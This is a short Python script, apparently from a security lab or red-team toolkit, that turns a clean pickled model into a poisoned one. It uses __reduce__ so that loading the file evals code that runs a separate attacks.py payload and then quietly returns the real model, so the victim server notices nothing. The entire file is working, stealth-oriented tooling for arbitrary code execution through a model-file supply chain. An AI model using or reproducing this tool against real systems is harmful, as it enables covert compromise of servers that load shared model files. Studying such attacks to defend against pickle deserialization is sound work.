#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Makes a poisoned model file, the way that real ones are made.

    poison.py CLEAN.pkl POISONED.pkl NAME=VALUE...

A pickle is a program: an object's __reduce__ names any function and its arguments, and loading
the file calls it. Here that is eval(), on an expression that first runs the text of attacks.py and
then gives back the true model, so that the server goes on as if nothing had been.
NAME=VALUE pairs become the attacks' settings.
"""

import os
import pickle
import sys


class Poison:
    def __init__(self, payload, settings, clean):
        self.expression = (
            "(exec(compile(%r, 'payload', 'exec'), {'settings': %r}), "
            "__import__('pickle').loads(%r))[1]" % (payload, settings, clean))

    def __reduce__(self):
        return eval, (self.expression,)


def main():
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    settings = {}
    for pair in sys.argv[3:]:
        name, value = pair.split("=", 1)
        settings[name] = int(value) if value.isdigit() else value
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.py"),
              encoding="utf-8") as file:
        payload = file.read()
    with open(sys.argv[1], "rb") as file:
        clean = file.read()
    with open(sys.argv[2], "wb") as file:
        pickle.dump(Poison(payload, settings, clean), file)


if __name__ == "__main__":
    main()
